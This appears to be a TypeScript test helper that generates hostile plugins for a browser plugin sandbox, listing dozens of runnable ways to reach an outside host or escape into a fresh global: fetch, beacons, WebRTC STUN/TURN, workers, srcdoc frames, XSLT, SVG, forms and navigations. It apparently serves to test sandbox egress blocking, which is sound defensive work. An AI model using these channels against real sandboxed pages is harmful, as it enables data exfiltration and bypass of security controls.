import type { HostilePlugin } from './hostilePlugin.ts'

/**
 * JavaScript by name. `TCP` and `UDP` are the `host:port` that it tries to reach, `OWN` is the address of
 * its own module, `MARKUP` a document that runs this module again, `IN_MARKUP` a frame with it.
 */
type Ways = Readonly<Record<string, string>>

const inFrame = (set: string): string =>
  `const f = document.createElement('iframe'); ${set}; document.body.append(f)`
const ofFrame = (name: string): string =>
  `const f = document.createElement('iframe'); ${name}; document.body.append(f); await soon(); peer(f.contentWindow.RTCPeerConnection)`

/** Another document has another global object, with everything that was removed from this one. */
export const REALMS: Ways = {
  'its own peers': `peer(RTCPeerConnection)`,
  'an empty frame': ofFrame(''),
  'an empty frame of its origin': ofFrame(`f.sandbox = 'allow-scripts allow-same-origin'`),
  'an empty frame that is written': inFrame('') + '; await soon(); f.contentDocument.write(MARKUP)',
  'a frameset': `const s = document.createElement('frameset'); const f = document.createElement('frame'); s.append(f); document.documentElement.append(s); peer(f.contentWindow.RTCPeerConnection)`,
  'srcdoc by its property': inFrame(`f.srcdoc = MARKUP`),
  'srcdoc as an attribute': inFrame(`f.setAttribute('srcdoc', MARKUP)`),
  'srcdoc with a namespace': inFrame(`f.setAttributeNS(null, 'srcdoc', MARKUP)`),
  'srcdoc as a node': inFrame(
    `const a = document.createAttribute('srcdoc'); a.value = MARKUP; f.setAttributeNode(a)`,
  ),
  'srcdoc as a node that changes': inFrame(
    `const a = document.createAttribute('srcdoc'); f.setAttributeNode(a); a.value = MARKUP`,
  ),
  'srcdoc as the text of a node': inFrame(
    `const a = document.createAttribute('srcdoc'); f.setAttributeNode(a); a.textContent = MARKUP`,
  ),
  'srcdoc by the map of attributes': inFrame(
    `const a = document.createAttribute('srcdoc'); a.value = MARKUP; f.attributes.setNamedItem(a)`,
  ),
  'srcdoc from another element': inFrame(
    `const d = document.createElement('div'); d.setAttribute('srcdoc', MARKUP); const a = d.getAttributeNode('srcdoc'); d.removeAttributeNode(a); f.setAttributeNode(a)`,
  ),
  'srcdoc from another document': `const d = new Document(); const f = d.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); f.setAttribute('srcdoc', MARKUP); document.body.append(f)`,
  'srcdoc from an HTML document': `const f = document.implementation.createHTMLDocument().createElement('iframe'); f.srcdoc = MARKUP; document.body.append(f)`,
  'srcdoc by SVG': `const svg = (n) => document.createElementNS('http://www.w3.org/2000/svg', n); const s = svg('svg'); const o = svg('foreignObject'); const a = svg('set'); const f = document.createElement('iframe'); a.setAttribute('attributeName', 'srcdoc'); a.setAttribute('to', MARKUP); f.append(a); o.append(f); s.append(o); document.body.append(s)`,
  'srcdoc by XSLT': `const X = 'http://www.w3.org/1999/XSL/Transform'; const x = document.implementation.createDocument(X, 'xsl:stylesheet', null); x.documentElement.setAttribute('version', '1.0'); const t = x.createElementNS(X, 'xsl:template'); t.setAttribute('match', '/'); const f = x.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); const a = x.createElementNS(X, 'xsl:attribute'); a.setAttribute('name', 'srcdoc'); a.textContent = MARKUP; f.append(a); t.append(f); x.documentElement.append(t); const p = new XSLTProcessor(); p.importStylesheet(x); document.body.append(p.transformToFragment(document.implementation.createDocument(null, 'a', null), document))`,
  innerHTML: `const d = document.createElement('div'); document.body.append(d); d.innerHTML = IN_MARKUP`,
  insertAdjacentHTML: `document.body.insertAdjacentHTML('beforeend', IN_MARKUP)`,
  setHTML: `const d = document.createElement('div'); document.body.append(d); d.setHTML(IN_MARKUP, { sanitizer: {} })`,
  setHTMLUnsafe: `const d = document.createElement('div'); document.body.append(d); d.setHTMLUnsafe(IN_MARKUP)`,
  'a shadow root': `const d = document.createElement('div'); document.body.append(d); d.attachShadow({ mode: 'open' }).setHTMLUnsafe(IN_MARKUP)`,
  'a declared shadow root': `const d = document.createElement('div'); document.body.append(d); d.setHTMLUnsafe('<p><template shadowrootmode="open">' + IN_MARKUP + '</template></p>')`,
  parseHTMLUnsafe: `document.body.append(document.adoptNode(Document.parseHTMLUnsafe(IN_MARKUP).body.firstChild))`,
  DOMParser: `document.body.append(document.adoptNode(new DOMParser().parseFromString(IN_MARKUP, 'text/html').body.firstChild))`,
  'a range': `document.body.append(document.createRange().createContextualFragment(IN_MARKUP))`,
  'the document written anew': `document.open(); document.write(IN_MARKUP)`,
  'another document written': `const d = document.implementation.createHTMLDocument(); d.write(IN_MARKUP); document.body.append(document.adoptNode(d.querySelector('iframe')))`,
  'an editor’s command': `const d = document.createElement('div'); d.contentEditable = 'true'; document.body.append(d); d.focus(); getSelection().selectAllChildren(d); document.execCommand('insertHTML', false, IN_MARKUP)`,
  'a data document': inFrame(`f.src = 'data:text/html,' + encodeURIComponent(MARKUP)`),
  'a blob document': inFrame(
    `f.src = URL.createObjectURL(new Blob([MARKUP], { type: 'text/html' }))`,
  ),
  'a script as an address': inFrame('f.src = "javascript:\'" + MARKUP + "\'"'),
  'its own page again': inFrame(`f.src = new URL('/plugin-frame.html', OWN).href`),
  'an object': `const o = document.createElement('object'); o.type = 'text/html'; o.data = 'about:blank'; document.body.append(o); await soon(); peer(o.contentWindow.RTCPeerConnection)`,
  'an embedded document': `const o = document.createElement('embed'); o.type = 'text/html'; o.src = 'about:blank'; document.body.append(o); await soon(); peer(window.frames[0].RTCPeerConnection)`,
  'a window': `peer(window.open('about:blank').RTCPeerConnection)`,
  'a worker of a file': `new Worker(OWN, { type: 'module' })`,
  'a worker of data': `new Worker('data:text/javascript,' + encodeURIComponent(\`fetch("http://\${TCP}/")\`))`,
  'a worker of a blob': `new Worker(URL.createObjectURL(new Blob([\`fetch("http://\${TCP}/")\`])))`,
  'a shared worker': `new SharedWorker(OWN)`,
  'a service worker': `await navigator.serviceWorker.register(OWN)`,
  'an audio worklet': `await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(OWN)`,
}

const link = (rel: string): string =>
  `const l = document.createElement('link'); l.rel = '${rel}'; l.as = 'script'; l.href = 'http://' + TCP + '/'; document.head.append(l)`
const svg = (element: string): string =>
  `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const e = document.createElementNS('http://www.w3.org/2000/svg', '${element}'); e.setAttribute('href', 'http://' + TCP + '/e.svg#e'); s.append(e); document.body.append(s)`

/** Requests, hints and calls of a page. */
export const REQUESTS: Ways = {
  ...Object.fromEntries(
    [
      'dns-prefetch',
      'preconnect',
      'prefetch',
      'prerender',
      'preload',
      'modulepreload',
      'stylesheet',
      'icon',
      'manifest',
      'compression-dictionary',
    ].map((rel) => [`a link: ${rel}`, link(rel)]),
  ),
  'rules of speculation': `const s = document.createElement('script'); s.type = 'speculationrules'; s.append(JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://' + TCP + '/'], eagerness: 'immediate' }] })); document.head.append(s)`,
  'an import map': `const s = document.createElement('script'); s.type = 'importmap'; s.append(JSON.stringify({ imports: { out: 'http://' + TCP + '/' } })); document.head.append(s); await import('out')`,
  'an import': `await import('http://' + TCP + '/')`,
  'an import of JSON': `await import('http://' + TCP + '/', { with: { type: 'json' } })`,
  fetch: `await fetch('http://' + TCP + '/', { mode: 'no-cors', keepalive: true })`,
  fetchLater: `fetchLater('https://' + TCP + '/', { activateAfter: 0 })`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', 'http://' + TCP + '/'); x.send()`,
  'a beacon': `navigator.sendBeacon('http://' + TCP + '/', 'x')`,
  'a ping': `const a = document.createElement('a'); a.href = '#here'; a.ping = 'http://' + TCP + '/'; document.body.append(a); a.click()`,
  'events of a server': `new EventSource('http://' + TCP + '/')`,
  'a socket': `new WebSocket('ws://' + TCP + '/')`,
  'a stream of a socket': `new WebSocketStream('ws://' + TCP + '/')`,
  'a transport': `await new WebTransport('https://' + UDP + '/').ready`,
  pictures: `new Image().src = 'http://' + TCP + '/'; const i = new Image(); i.srcset = 'http://' + TCP + '/ 1x'; document.body.append(i)`,
  'a picture inside a picture': `const i = new Image(); i.src = 'data:image/svg+xml,' + encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg"><image href="http://' + TCP + '/"/></svg>'); document.body.append(i)`,
  'a picture that reports': `const i = new Image(); i.setAttribute('attributionsrc', 'http://' + TCP + '/'); i.src = 'data:,'`,
  'film and sound': `const v = document.createElement('video'); v.src = v.poster = 'http://' + TCP + '/'; const t = document.createElement('track'); t.src = 'http://' + TCP + '/'; t.default = true; v.append(t); document.body.append(v); v.textTracks[0].mode = 'showing'`,
  styles: `const s = new CSSStyleSheet(); s.replaceSync('@font-face { font-family: out; src: url(http://' + TCP + '/f) } body { font-family: out; background: url(http://' + TCP + '/b); cursor: url(http://' + TCP + '/c), auto; mask-image: url(http://' + TCP + '/m) }'); document.adoptedStyleSheets = [s]`,
  'a style that imports': `const s = document.createElement('style'); s.append('@import url(http://' + TCP + '/);'); document.head.append(s)`,
  'a font': `await new FontFace('out', 'url(http://' + TCP + '/)').load()`,
  'SVG: use': svg('use'),
  'SVG: image': svg('image'),
  'SVG: filter': svg('feImage'),
  'SVG: script': svg('script'),
  'an object elsewhere': `const o = document.createElement('object'); o.data = 'http://' + TCP + '/'; document.body.append(o)`,
  'reports of a policy': `const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "img-src 'none'; report-uri http://" + TCP + '/'; document.head.append(m); new Image().src = '/assets/none.png'`,
  payment: `await new PaymentRequest([{ supportedMethods: 'https://' + TCP + '/' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
}

const anchor = (more: string): string =>
  `const a = document.createElement('a'); a.href = 'http://' + TCP + '/'; ${more}; document.body.append(a); a.click()`
const form = (more: string): string =>
  `const f = document.createElement('form'); f.action = 'http://' + TCP + '/'; document.body.append(f); ${more}`

/** Navigations of a document, or of one that it contains. */
export const NAVIGATIONS: Ways = {
  location: `location = 'http://' + TCP + '/'`,
  'location, encrypted': `location = 'https://' + TCP + '/'`,
  'location.replace': `location.replace('http://' + TCP + '/')`,
  'the navigation API': `navigation.navigate('http://' + TCP + '/')`,
  'a document of data': `location = 'data:text/html,' + encodeURIComponent(MARKUP)`,
  'a document of a blob': `location = URL.createObjectURL(new Blob([MARKUP], { type: 'text/html' }))`,
  'a refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://' + TCP + '/'; document.head.append(m)`,
  'a link': anchor(''),
  'a link to a new window': anchor(`a.target = '_blank'`),
  'a download': anchor(`a.download = 'x'`),
  'a link in SVG': `${svg('a')}; e.dispatchEvent(new MouseEvent('click', { bubbles: true }))`,
  'a window elsewhere': `window.open('http://' + TCP + '/', '_blank', 'noopener')`,
  'itself as a window': `window.open('http://' + TCP + '/', '_self')`,
  'the page as a window': `window.open('http://' + TCP + '/', '_top')`,
  'a form': form('f.submit()'),
  'a form that posts': form(`f.method = 'post'; f.submit()`),
  'a form that is requested': form('f.requestSubmit()'),
  'a button of a form': form(
    `const b = document.createElement('button'); b.formAction = 'http://' + TCP + '/'; f.append(b); b.click()`,
  ),
  'a form into a frame': form(
    `const k = document.createElement('iframe'); k.name = 'kid'; document.body.append(k); f.target = 'kid'; f.submit()`,
  ),
  'a frame': inFrame(`f.src = 'http://' + TCP + '/'`),
  'a frame that is led on':
    inFrame(`f.name = 'led'`) + `; window.open('http://' + TCP + '/', 'led')`,
}

/** Tries one way out of a set, as its settings say, and reports to the browser’s console that it did. */
export const waysOut = (name: string, ways: Ways): HostilePlugin => ({
  name: `ways-out-${name}`,
  // A document that loads this module again has a second global object: it reports on its own.
  atLoad: `
const OWN = import.meta.url
const soon = () => new Promise((done) => setTimeout(done, 200))
const connect = (Peer, TCP, UDP) => {
  const iceServers = [{ urls: 'stun:' + UDP }, { urls: 'turn:' + TCP + '?transport=tcp', username: 'u', credential: 'p' }]
  const peer = new Peer({ iceServers })
  peer.createDataChannel('out')
  void peer.createOffer().then((offer) => peer.setLocalDescription(offer))
}
const told = new URLSearchParams(new URL(OWN).hash.slice(1))
if (told.has('tcp')) connect(globalThis.RTCPeerConnection, told.get('tcp'), told.get('udp'))
const WAYS = { ${Object.entries(ways)
    .map(
      ([way, code]) =>
        `${JSON.stringify(way)}: async ({ TCP, UDP, OWN, MARKUP, IN_MARKUP, peer }) => { ${code} }`,
    )
    .join(',\n')} }
const tryOut = async ({ way, tcp: TCP, udp: UDP }) => {
  const own = OWN + '#tcp=' + TCP + '&udp=' + UDP
  const map = document.querySelector('script[type="importmap"]').textContent
  const script = (attributes, text) => '<script ' + attributes + '>' + text + '</' + 'script>'
  const MARKUP = script('type="importmap"', map) + script('type="module" src="' + own + '"', '')
  const quoted = MARKUP.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
  const IN_MARKUP = '<iframe srcdoc="' + quoted + '"></iframe>'
  const peer = (Peer) => connect(Peer, TCP, UDP)
  await WAYS[way]({ TCP, UDP, OWN: own, MARKUP, IN_MARKUP, peer }).catch(() => undefined)
}`,
  draw: `
  const { config } = props
  useEffect(() => {
    console.info('tried ' + config.way)
    void tryOut(config)
  }, [])
  return h('output', null, config.way)`,
})
